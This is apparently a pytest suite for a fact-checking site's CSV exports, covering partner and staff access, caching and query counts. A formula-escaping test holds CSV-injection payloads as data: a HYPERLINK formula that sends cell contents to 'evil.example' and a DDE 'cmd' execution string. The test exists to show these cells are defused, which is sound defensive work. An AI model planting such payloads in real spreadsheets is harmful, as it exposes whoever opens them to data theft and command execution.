"""The CSV exports: published verdicts and claims for partners (never a draft or a retraction),
every claim for the desk (staff only); formula cells defused; streamed in fixed queries."""

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse

from factcheck.partners import services as partner_services
from factcheck.partners.models import Partner
from factcheck.spreadsheets import export
from factcheck.spreadsheets.cells import safe
from factcheck.spreadsheets.columns import COLUMNS
from factcheck.spreadsheets.export import VERDICT_COLUMNS
from tests.factories import build_desk, make_claim, publish

pytestmark = pytest.mark.django_db

VERDICTS = "/api/v1/export/verdicts.csv"
CLAIMS = "/api/v1/export/claims.csv"


@pytest.fixture(autouse=True)
def _fresh_throttle_history():
    cache.clear()


@pytest.fixture
def key():
    partner = Partner.objects.create(name="Partner desk")
    _key, raw = partner_services.api_key_create(partner=partner, name="export")
    return raw


def fetch(client, url, key=None):
    headers = {"authorization": f"Api-Key {key}"} if key else {}
    response = client.get(url, headers=headers)
    assert response.status_code == 200, response.content[:300]
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel then opens it as UTF-8
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_partners_get_the_published_verdicts_only(client, key):
    desk = build_desk(3)
    header, *rows = fetch(client, VERDICTS, key)
    assert header == VERDICT_COLUMNS
    slugs = sorted(row[header.index("claim_slug")] for row in rows)
    assert slugs == sorted(v.claim.slug for v in desk.verdicts)
    body = repr(rows)
    assert "secret-draft-claim" not in body and "retracted-claim" not in body
    row = dict(zip(header, rows[0], strict=True))
    assert row["url"].startswith("http://127.0.0.1:8000/") and row["rating"]


def test_partners_get_the_published_claims_in_the_import_columns(client, key):
    desk = build_desk(2)
    header, *rows = fetch(client, CLAIMS, key)
    assert header == COLUMNS
    starts = [row[header.index("slug")] for row in rows if row[0]]
    assert sorted(starts) == sorted(v.claim.slug for v in desk.verdicts)
    # Every citation row carries its publisher; continuation rows leave the claim empty.
    assert all(row[header.index("source")] for row in rows)
    assert "secret-draft-claim" not in repr(rows) and "retracted-claim" not in repr(rows)


def test_without_a_key_the_export_is_refused_unless_the_feed_is_open(client, settings):
    build_desk(1)
    response = client.get(VERDICTS)
    assert response.status_code == 401 and response["Content-Type"] == "application/json"
    settings.FACTCHECK_API_ANONYMOUS = True
    assert len(fetch(client, VERDICTS)) == 2


def test_formula_cells_are_defused(client, key):
    desk = build_desk(1)
    claim = make_claim(
        "formula",
        text='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        text_en="+cmd|' /C calc'!A0",
        short="@SUM(1+1) looks like a formula",
        claimant=desk.mvd,
        citations=[(desk.orda, "appearance", "-1 people"), (desk.magazine, "supports", "ok")],
    )
    publish(claim)
    header, *rows = fetch(client, VERDICTS, key)
    [row] = [r for r in rows if r[header.index("claim_slug")] == "formula"]
    row = dict(zip(header, row, strict=True))
    assert row["claim_text"] == "'" + claim.text
    assert row["claim_text_en"] == "'+cmd|' /C calc'!A0"
    assert row["claim_short"] == "'@SUM(1+1) looks like a formula"
    header, *rows = fetch(client, CLAIMS, key)
    quotes = [r[header.index("quote")] for r in rows]
    assert "'-1 people" in quotes and "-1 people" not in quotes


def test_a_cell_is_escaped_only_where_a_spreadsheet_would_run_it():
    assert [safe(v) for v in ["=1", "+1", "-1", "@a", "\tx", "a=b", "", None, 7, "Осень"]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "a=b",
        "",
        "",
        7,
        "Осень",
    ]


def test_the_desk_exports_every_claim_staff_only(client, reporter):
    desk = build_desk(2)
    url = reverse("admin:factcheck_claims_export")
    response = client.get(url)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    client.force_login(reporter)
    header, *rows = fetch(client, url)
    slugs = {row[header.index("slug")] for row in rows if row[0]}
    assert {"secret-draft-claim", "retracted-claim"} <= slugs
    assert {v.claim.slug for v in desk.verdicts} <= slugs
    draft = next(r for r in rows if r[header.index("slug")] == "secret-draft-claim")
    assert draft[header.index("status")] and draft[header.index("claim_id")].isdigit()


def _count(client, django_assert_num_queries, url, key=None, *, expected):
    with django_assert_num_queries(expected) as captured:
        fetch(client, url, key)
    return len(captured)


@pytest.mark.parametrize("size", [2, 6])
def test_the_exports_run_fixed_queries_per_batch(
    client, key, reporter, size, monkeypatch, django_assert_num_queries
):
    build_desk(size)
    # Fewer rows than a batch: the same queries whatever the archive's size.
    # Partner: 1. the key with its partner, 2. its last use (written at most once a minute),
    # 3. the feed's last position (the ETag), 4. the published verdicts with their snapshots.
    cache.clear()
    _count(client, django_assert_num_queries, VERDICTS, key, expected=4)
    cache.clear()
    # The key was used within the minute, so its last use is not written again:
    # 1. the key with its partner, 2. the feed's last position, 3. the verdicts.
    _count(client, django_assert_num_queries, CLAIMS, key, expected=3)
    # Desk: 1. the session, 2. the user, 3. the permission check (groups' permissions),
    # 4. the claims with their claimants, 5. their citations with both sources.
    client.force_login(reporter)
    _count(client, django_assert_num_queries, reverse("admin:factcheck_claims_export"), expected=6)
    # In batches of 2: one query (two for the desk) per batch, never one per row.
    monkeypatch.setattr(export, "BATCH", 2)
    batches = size // 2 + 1  # build_desk publishes `size` verdicts; the last batch is short
    _count(client, django_assert_num_queries, CLAIMS, key, expected=2 + batches)


def test_a_partner_polling_the_export_gets_304_until_the_next_release(client, key):
    desk = build_desk(1)
    first = client.get(VERDICTS, headers={"authorization": f"Api-Key {key}"})
    etag = first["ETag"]
    again = {"authorization": f"Api-Key {key}", "if-none-match": etag}
    assert client.get(VERDICTS, headers=again).status_code == 304
    publish(
        make_claim(
            "news",
            text="Новость",
            claimant=desk.mvd,
            citations=[(desk.orda, "appearance", "н"), (desk.magazine, "supports", "да")],
        )
    )
    assert client.get(VERDICTS, headers=again).status_code == 200


def test_a_parameter_the_export_does_not_take_is_a_400_naming_it(client, key):
    build_desk(1)
    response = client.get(f"{VERDICTS}?rating=false", headers={"authorization": f"Api-Key {key}"})
    assert response.status_code == 400
    assert list(response.json()) == ["rating"]
